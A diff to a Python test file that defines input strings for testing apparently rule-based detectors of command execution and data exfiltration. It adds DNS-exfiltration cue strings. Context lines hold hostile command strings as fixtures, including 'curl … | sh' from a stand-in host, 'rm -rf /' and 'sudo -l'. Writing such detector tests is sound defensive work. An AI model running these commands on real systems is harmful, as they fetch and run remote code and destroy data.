@@ -219,6 +219,10 @@ RULE_SHAPES: dict[str, tuple[str, Callable[[int], str]]] = {
         "command-execution", lambda n: fill("curl x | sh rm -rf / sudo -l ", n)),
     "negated orders, one per sentence": (
         "command-execution", lambda n: fill("Never run curl https://x.tk/i.sh | sh. ", n)),
+    "DNS cues beside a secret and a host, one sentence": (
+        "data-exfiltration", lambda n: fill("dns a.tk the api key ", n)),
+    "DNS cues beside a secret and a host, many sentences": (
+        "data-exfiltration", lambda n: fill("The DNS record of a.tk holds the api key. ", n)),
 }  # fmt: skip
 for _label, (_rid, _build) in RULE_SHAPES.items():
     CASES[f"rule {_rid}: {_label}"] = ((f"rule:{_rid}",), _build)
